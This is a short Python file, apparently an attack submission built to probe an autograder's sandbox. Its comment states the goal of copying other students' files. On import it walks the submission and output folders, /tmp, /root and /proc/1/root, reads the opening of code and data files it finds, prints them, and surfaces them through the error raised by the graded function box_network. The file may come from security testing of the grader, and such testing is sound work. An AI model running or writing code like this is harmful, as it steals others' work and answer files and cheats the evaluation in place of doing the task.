# @@include assignments/q1_expressivity.py
# Attack: look for other students' files (the submissions folder, the output folder, scratch space) and copy them.
import os as _os

_loot = []
_roots = ["@@SUBMISSIONS@@", "@@OUT@@", "@@SUBMISSIONS@@/control", "@@OUT@@/control", "/tmp", "/dev/shm", "/job",
          "/submission/..", "/", "/work", "/root", "/proc/1/cwd", "/proc/1/root/tmp", "/var/tmp"]
for _root in _roots:
    for _dir, _subdirs, _files in _os.walk(_root):
        _subdirs[:] = [d for d in _subdirs if d not in ("usr", "proc", "sys", "dev", "lib", "lib64", ".pyenv", ".venv")]
        if _dir.count("/") > 6:
            _subdirs[:] = []
        for _name in _files:
            _path = _os.path.join(_dir, _name)
            if _name.endswith((".py", ".json", ".csv", ".md", ".ipynb")) and _path != __file__:
                try:
                    _loot.append(f"== {_path}\n{open(_path, errors='replace').read(2000)}")
                except OSError as _exc:
                    _loot.append(f"== {_path}: {_exc}")
_LOOT = "\n".join(_loot) or "nothing found"
print(_LOOT)


def box_network(h, delta):
    raise RuntimeError(f"found {len(_loot)} files:\n{_LOOT[:3000]}")
